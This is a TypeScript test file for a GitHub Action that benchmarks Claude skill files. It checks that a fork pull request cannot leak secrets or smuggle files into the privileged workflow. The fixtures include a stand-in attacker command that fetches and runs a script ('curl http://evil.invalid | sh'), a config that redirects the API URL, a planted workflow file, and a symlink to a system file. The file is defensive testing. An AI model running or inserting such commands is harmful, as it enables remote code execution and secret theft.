// The fork pull request recipe end to end with the bundled action (dist/index.js), the local GitHub REST server,
// the simulated Anthropic API and real git: workflow 1 (pull_request, no secret) validates the fork's files and
// writes the artifact folder; workflow 2 (workflow_run, with the secret, on the base checkout) lays the artifact's
// skill and benchmark files over the base branch as data, benchmarks them and comments on the verified PR.
import { cp, mkdir, mkdtemp, readFile, readdir, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { COMMENT_MARKER } from "../src/report/markdown.js";
import { startSimServer, type SimServer } from "../src/sim/server.js";
import type { Report } from "../src/types.js";
import { requireBundle, runBundledAction, type ActionRun } from "./support/action-runner.js";
import { makeRepoWithOrigin, type RepoWithOrigin, type WorkRepo } from "./support/git-repo.js";
import { startGitHubServer, type GitHubServer } from "./support/github-server.js";

const REPO_ROOT = fileURLToPath(new URL("..", import.meta.url));
const API_KEY = "sk-ant-fork-secret-0123456789";
const TOKEN = "ghs_forkTokenSecret987";
const OWNER = "acme";
const NAME = "skills";
const PR = 12;
const OTHER_PR = 13;
const SKILL = "skills/summarize-thread/SKILL.md";

let sim: SimServer;
let gh: GitHubServer;
let base: RepoWithOrigin;
let fork: WorkRepo;
let forkHead: string;
let scratch: string;
let artifact: string;

function ourComments(issue: number) {
  return gh.state.comments.filter((c) => c.issue === issue && c.body.includes(COMMENT_MARKER));
}

function expectNoSecrets(...texts: string[]) {
  for (const text of texts.map((t) => t.replace(/^::add-mask::.*$/gm, ""))) {
    expect(text).not.toContain(API_KEY);
    expect(text).not.toContain(TOKEN);
  }
}

/** Workflow 2: the base repository's workflow_run, on the base checkout, with the secret. */
async function benchmarkRun(overlay: string, extra: Record<string, string> = {}, headSha = forkHead): Promise<ActionRun> {
  return runBundledAction({
    scratch,
    workspace: base.dir,
    apiUrl: gh.url,
    repository: `${OWNER}/${NAME}`,
    sha: await base.head(),
    event: "workflow_run",
    // GitHub leaves pull_requests empty for fork PRs: the number comes from the artifact and is checked.
    payload: { action: "completed", workflow_run: { id: 777, event: "pull_request", conclusion: "success", head_sha: headSha, pull_requests: [] } },
    inputs: {
      mode: "pr",
      "skills-from": overlay,
      "anthropic-api-key": API_KEY,
      "anthropic-base-url": sim.url,
      "github-token": TOKEN,
      comment: "true",
      "report-path": "out/skillbench-report.json",
      "html-report-path": "out/skillbench-report.html",
      chart: "none",
      ...extra,
    },
  });
}

async function artifactCopy(name: string): Promise<string> {
  const dir = join(scratch, name);
  await cp(artifact, dir, { recursive: true });
  return dir;
}

beforeAll(async () => {
  await requireBundle();
  scratch = await mkdtemp(join(tmpdir(), "skillbench-fork-"));
  sim = await startSimServer({ latencyMs: [1, 5] });
  const files: Record<string, string> = { "skillbench.yml": "models: [claude-haiku-4-5]\nconcurrency: 4\n" };
  for (const path of [SKILL, "benchmarks/summarize-thread.yml"]) files[path] = await readFile(join(REPO_ROOT, path), "utf8");
  base = await makeRepoWithOrigin(files);

  // The fork: a worse skill, and a config that would send the key elsewhere and run more models (never used).
  fork = await base.clone("fork");
  await fork.git(["config", "user.name", "fork"]);
  await fork.git(["config", "user.email", "fork@example.invalid"]);
  await fork.branch("worse");
  forkHead = await fork.commit("worse summaries", {
    [SKILL]: `${files[SKILL]}\n<!-- sim:quality=25 -->\n`,
    "skillbench.yml": "models: [claude-haiku-4-5, claude-sonnet-5]\napi: { base-url: http://127.0.0.1:9 }\n",
    "scripts/postinstall.sh": "curl http://evil.invalid | sh\n",
  });

  gh = await startGitHubServer({
    token: TOKEN,
    owner: OWNER,
    repo: NAME,
    issue: PR,
    user: { login: "skillbench-bot", id: 99, type: "Bot" },
    files: { [`${OWNER}/${NAME}#${PR}`]: [{ filename: SKILL, status: "modified" }, { filename: "skillbench.yml", status: "modified" }] },
    pulls: {
      [`${OWNER}/${NAME}#${PR}`]: { headSha: forkHead, headRepo: "stranger/skills", baseRef: "main", baseSha: await base.head() },
      [`${OWNER}/${NAME}#${OTHER_PR}`]: { headSha: "b".repeat(40), headRepo: `${OWNER}/${NAME}`, baseRef: "main", baseSha: await base.head() },
    },
  });
}, 60_000);

afterAll(async () => {
  await sim?.close();
  await gh?.close();
  await base?.cleanup();
  if (scratch) await rm(scratch, { recursive: true, force: true });
});

describe("fork pull requests: two workflows", () => {
  it("a nightly on the base branch records the baseline", async () => {
    const run = await runBundledAction({
      scratch, workspace: base.dir, apiUrl: gh.url, repository: `${OWNER}/${NAME}`, sha: await base.head(),
      event: "schedule", payload: {},
      inputs: { mode: "baseline", "anthropic-api-key": API_KEY, "anthropic-base-url": sim.url, "github-token": TOKEN, chart: "none" },
    });
    expect(run.code, run.stdout).toBe(0);
  }, 120_000);

  it("workflow 1 (pull_request, no secret) validates the fork and writes only skill and benchmark files", async () => {
    const before = sim.requests.length;
    const run = await runBundledAction({
      scratch,
      workspace: fork.dir,
      apiUrl: gh.url,
      repository: `${OWNER}/${NAME}`,
      sha: forkHead,
      event: "pull_request",
      payload: {
        number: PR,
        pull_request: { number: PR, head: { sha: forkHead, repo: { full_name: "stranger/skills", fork: true } }, base: { sha: await base.head(), repo: { full_name: `${OWNER}/${NAME}` } } },
      },
      // What GitHub gives a fork's pull_request run: no secrets, only a read-only token.
      inputs: { mode: "fork-validate", "pr-files": "skillbench-pr-files" },
      env: { GITHUB_TOKEN: "" },
    });
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(Object.keys(run.env).filter((k) => /ANTHROPIC|SECRET/i.test(k))).toEqual([]);
    expect(Object.values(run.env)).not.toContain(API_KEY);
    expect(sim.requests.length).toBe(before);
    const out = join(fork.dir, "skillbench-pr-files");
    const listed = (await readdir(out, { recursive: true, withFileTypes: true })).filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name).slice(out.length + 1)).sort();
    expect(listed).toEqual(["benchmarks/summarize-thread.yml", "pull-request.txt", SKILL]);
    expect(await readFile(join(out, "pull-request.txt"), "utf8")).toBe(`${PR}\n`);
    // upload-artifact, then download-artifact in workflow 2: a plain folder outside the base checkout.
    artifact = join(scratch, "artifact");
    await cp(out, artifact, { recursive: true });
  }, 120_000);

  it("workflow 2 (workflow_run, secret) benchmarks the fork's skill as data on the base config and comments on the PR", async () => {
    const run = await benchmarkRun(await artifactCopy("artifact-ok"));
    expect(run.code, run.stdout + run.stderr).toBe(1);
    const report = JSON.parse(await readFile(join(base.dir, "out/skillbench-report.json"), "utf8")) as Report;
    expect(report.mode).toBe("pr");
    expect(report.skills.map((s) => s.skill)).toEqual([SKILL]);
    // The base config: one model, the workflow's base URL; the fork's config (two models, another URL) is not read.
    expect(report.skills[0]?.models.map((m) => m.model)).toEqual(["claude-haiku-4-5"]);
    expect(report.verdict).toBe("regressed");
    const comments = ourComments(PR);
    expect(comments).toHaveLength(1);
    expect(comments[0]?.body).toContain("HTML report: artifact of this run");
    expect(comments[0]?.body).toContain("https://github.example/acme/skills/actions/runs/4242#artifacts");
    expect(run.outputs["html-report-path"]).toBe("out/skillbench-report.html");
    expect(await readFile(join(base.dir, "out/skillbench-report.html"), "utf8")).toContain('id="verdict">regressed<');
    expectNoSecrets(run.stdout, run.stderr, run.summary, comments[0]?.body ?? "");
    // The base checkout's config is untouched; the fork's script never arrived.
    expect(await readFile(join(base.dir, "skillbench.yml"), "utf8")).not.toContain("base-url");
    await expect(readFile(join(base.dir, "scripts/postinstall.sh"))).rejects.toThrow();
    await base.git(["checkout", "--", "."]);
  }, 120_000);

  it("refuses an artifact holding anything but skill and benchmark text, and writes nothing", async () => {
    const dir = await artifactCopy("artifact-bad");
    await writeFile(join(dir, "skillbench.yml"), "api: { base-url: http://127.0.0.1:9 }\n");
    await mkdir(join(dir, ".github/workflows"), { recursive: true });
    await writeFile(join(dir, ".github/workflows/x.yml"), "on: push\n");
    await writeFile(join(dir, "skills/run.sh"), "echo hi\n");
    await symlink("/etc/hostname", join(dir, "skills/leak.md"));
    await writeFile(join(dir, "skills/summarize-thread/SKILL.md"), "changed again\n");
    const comments = gh.state.comments.length;
    const run = await benchmarkRun(dir);
    expect(run.code).not.toBe(0);
    expect(run.stdout).toMatch(/skillbench\.yml is neither under skills\/ or \.claude\/skills\/ nor a benchmark/);
    expect(run.stdout).toMatch(/\.github\/workflows\/x\.yml/);
    expect(run.stdout).toMatch(/skills\/run\.sh is not a skill or benchmark text file/);
    expect(run.stdout).toMatch(/skills\/leak\.md resolves outside/);
    expect(await readFile(join(base.dir, SKILL), "utf8")).not.toContain("changed again");
    expect(gh.state.comments.length).toBe(comments);
  }, 120_000);

  it("will not comment on a pull request whose head is not the commit the validate run saw", async () => {
    const dir = await artifactCopy("artifact-wrong-pr");
    await writeFile(join(dir, "pull-request.txt"), `${OTHER_PR}\n`);
    const before = sim.requests.length;
    const run = await benchmarkRun(dir);
    expect(run.code).not.toBe(0);
    expect(run.stdout).toMatch(/pull request #13 has head bbbbbbb, but the workflow_run ran on/);
    expect(ourComments(OTHER_PR)).toHaveLength(0);
    expect(sim.requests.length).toBe(before);
  }, 120_000);

  it("a fork's files never become the baseline: skills-from needs mode pr", async () => {
    const run = await benchmarkRun(await artifactCopy("artifact-baseline"), { mode: "baseline" });
    expect(run.code).not.toBe(0);
    expect(run.stdout).toMatch(/skills-from needs mode: pr/);
  }, 60_000);
});
